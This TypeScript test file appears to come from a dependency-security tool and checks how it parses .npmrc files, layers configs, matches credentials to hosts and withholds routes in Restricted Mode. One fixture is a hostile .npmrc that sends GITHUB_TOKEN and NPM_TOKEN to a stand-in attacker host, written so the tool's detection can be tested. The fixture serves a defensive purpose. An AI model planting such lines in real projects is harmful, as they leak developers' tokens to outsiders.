import { strict as assert } from 'node:assert';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import {
  type NpmConfig,
  configuredHosts,
  expansionsToHosts,
  isPrivateName,
  loadNpmConfig,
  parseIgnoredRoutes,
  parseNpmrc,
  registryFor,
  registryMap,
  withheldRoute,
} from '../../../src/engine/registry/npmrc';
import { DirectTransport, NpmTransport } from '../../../src/engine/registry/transport';

describe('.npmrc', () => {
  it('expands ${VAR} and ${VAR?} from the environment, and keeps escaped ones', () => {
    assert.deepEqual(parseNpmrc('a=${X}\nb=${MISSING?}\nc=\\${X}\nd=${MISSING}\n', { X: 'x' }), { a: 'x', b: '', c: '${X}', d: '${MISSING}' });
  });

  it('names each environment variable the project .npmrc sends to a host it writes out, and only those', async () => {
    const text = [
      'registry=https://collect.evil.example/${GITHUB_TOKEN}/',
      '//collect.evil.example/:_authToken=${NPM_TOKEN}',
      '@corp:registry=${CORP_REGISTRY}',
      'proxy=http://proxy.example:3128/?k=${PROXY_KEY}',
      'cafile=${HOME}/ca.pem',
      'plain=https://host.example/${NOT_A_URL_KEY}',
      'escaped=\\${NPM_TOKEN}',
    ].join('\n');
    assert.deepEqual(expansionsToHosts(text), [
      { variable: 'GITHUB_TOKEN', host: 'collect.evil.example', key: 'registry' },
      { variable: 'NPM_TOKEN', host: 'collect.evil.example', key: '//collect.evil.example/:_authToken' },
      { variable: 'PROXY_KEY', host: 'proxy.example:3128', key: 'proxy' },
    ]);
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-npmrc-'));
    fs.writeFileSync(path.join(dir, '.npmrc'), text);
    fs.writeFileSync(path.join(dir, 'user-npmrc'), '//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n');
    const env = {
      npm_config_userconfig: path.join(dir, 'user-npmrc'),
      npm_config_globalconfig: path.join(dir, 'none'),
      NPM_TOKEN: 'npm_secret',
      GITHUB_TOKEN: 'ghp_secret',
    };
    const c = await loadNpmConfig({ projectDir: dir, env });
    assert.deepEqual(
      c.sends!.map((x) => x.variable),
      ['GITHUB_TOKEN', 'NPM_TOKEN', 'PROXY_KEY'],
      "the user .npmrc is the user's own: not listed",
    );
    assert.ok(!JSON.stringify(c.sends).includes('secret'), 'names, never values');
    assert.equal((await loadNpmConfig({ projectDir: dir, env, ignoreProject: true })).sends, undefined);
  });

  it('layers environment over project over user, and maps scopes', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'trustlens-npmrc-'));
    fs.writeFileSync(path.join(dir, '.npmrc'), 'registry=https://project.example/\n@corp:registry=https://npm.corp.example/repo/\n');
    fs.writeFileSync(path.join(dir, 'user-npmrc'), 'registry=https://user.example/\nstrict-ssl=false\n');
    const env = {
      npm_config_userconfig: path.join(dir, 'user-npmrc'),
      npm_config_globalconfig: path.join(dir, 'none'),
      NPM_CONFIG_HTTPS_PROXY: 'http://proxy:3128',
    };
    const c = await loadNpmConfig({ projectDir: dir, env });
    assert.equal(c.values.registry, 'https://project.example/');
    assert.equal(c.values['strict-ssl'], 'false');
    assert.equal(c.values['https-proxy'], 'http://proxy:3128');
    const map = registryMap(c);
    assert.equal(registryFor(map, '@corp/lib'), 'https://npm.corp.example/repo/');
    assert.equal(registryFor(map, '@CORP/lib'), 'https://npm.corp.example/repo/');
    assert.equal(registryFor(map, 'left-pad'), 'https://project.example/');
    assert.ok(isPrivateName(map, '@corp/lib'));
    assert.ok(!isPrivateName(map, 'left-pad'));
    assert.deepEqual(configuredHosts(map).sort(), ['npm.corp.example', 'project.example']);
    const restricted = await loadNpmConfig({ projectDir: dir, env, ignoreProject: true });
    assert.equal(restricted.values.registry, 'https://user.example/', 'Restricted Mode ignores the repository .npmrc');
  });

  it('finds the credentials npm would send, by the longest matching path, never for another host', () => {
    // What RegistryHttp puts on a request (npm-registry-fetch's own lookup), no proxy in the environment.
    const authHeaderFor = (config: NpmConfig, url: string) => {
      const route = new DirectTransport(config, 1, new NpmTransport(config, 1), {}).route(url, undefined);
      assert.notEqual(route, 'npm');
      return route === 'npm' ? undefined : route.authorization;
    };
    const config = {
      values: {
        '//npm.corp.example/:_authToken': 'host-token',
        '//npm.corp.example/repo/:_authToken': 'repo-token',
        '//127.0.0.1:4873/:_authToken': 'local-token',
        '//basic.example/:username': 'u',
        '//basic.example/:_password': Buffer.from('p').toString('base64'),
      },
      sources: [],
    };
    assert.equal(authHeaderFor(config, 'https://npm.corp.example/repo/-/npm/v1/security/advisories/bulk'), 'Bearer repo-token');
    assert.equal(authHeaderFor(config, 'https://npm.corp.example/other/x'), 'Bearer host-token');
    assert.equal(authHeaderFor(config, 'http://127.0.0.1:4873/x'), 'Bearer local-token');
    assert.equal(authHeaderFor(config, 'https://basic.example/x'), `Basic ${Buffer.from('u:p').toString('base64')}`);
    assert.equal(authHeaderFor(config, 'https://registry.npmjs.org/x'), undefined);
    assert.equal(authHeaderFor(config, 'https://npm.corp.example.evil.com/repo/x'), undefined);
  });

  it('Restricted Mode reads an ignored .npmrc only for the names it routes elsewhere, expanding nothing', () => {
    const routes = parseIgnoredRoutes(
      [
        '@Corp:registry=https://npm.corp.example/repo/',
        '@pub:registry=https://registry.npmjs.org/',
        '@env:registry=https://${SECRET_HOST}/',
        '//auth-only.example/:_authToken=${TOKEN}',
        'strict-ssl=false',
      ].join('\n'),
    );
    assert.deepEqual([...routes.scopes.keys()], ['@corp', '@pub', '@env']);
    assert.equal(routes.scopes.get('@env'), 'https://${SECRET_HOST}/', 'kept as written');
    assert.deepEqual([...routes.hosts].sort(), ['auth-only.example', 'npm.corp.example', 'registry.npmjs.org']);
    const trusted = registryMap({ values: {}, sources: [] });
    assert.equal(withheldRoute(routes, trusted, '@corp/lib'), 'npm.corp.example');
    assert.equal(withheldRoute(routes, trusted, '@pub/lib'), undefined, 'a scope sent to the public registry is no secret');
    assert.equal(withheldRoute(routes, trusted, '@env/lib'), 'a registry named by an environment variable');
    assert.equal(withheldRoute(routes, trusted, 'left-pad'), undefined);
    assert.equal(withheldRoute(routes, trusted, 'left-pad', 'https://auth-only.example/left-pad/-/left-pad-1.3.0.tgz'), 'auth-only.example');
    assert.equal(
      withheldRoute(routes, trusted, 'left-pad', 'https://elsewhere.example/left-pad/-/left-pad-1.3.0.tgz'),
      undefined,
      'a host the .npmrc does not name: untrusted-source judges it',
    );
    // The user's own configuration sends the scope to the same host: nothing to withhold.
    const mine = registryMap({ values: { '@corp:registry': 'https://npm.corp.example/other/' }, sources: [] });
    assert.equal(withheldRoute(routes, mine, '@corp/lib'), undefined);
    assert.equal(withheldRoute(routes, mine, 'x', 'https://npm.corp.example/x/-/x-1.0.0.tgz'), undefined);
    // registry= elsewhere takes every unscoped name (and scoped ones it does not map).
    const all = parseIgnoredRoutes('registry=https://artifactory.corp.example/api/npm/\n');
    assert.equal(withheldRoute(all, trusted, 'left-pad'), 'artifactory.corp.example');
    assert.equal(withheldRoute(all, trusted, '@types/node'), 'artifactory.corp.example');
    assert.equal(
      withheldRoute(
        parseIgnoredRoutes('registry=https://registry.npmjs.org/\n'),
        registryMap({ values: { registry: 'https://mirror.example/' }, sources: [] }),
        'left-pad',
      ),
      undefined,
    );
    assert.deepEqual(parseIgnoredRoutes('\u0000[[[ not ini'), { scopes: new Map(), hosts: new Set() });
  });
});
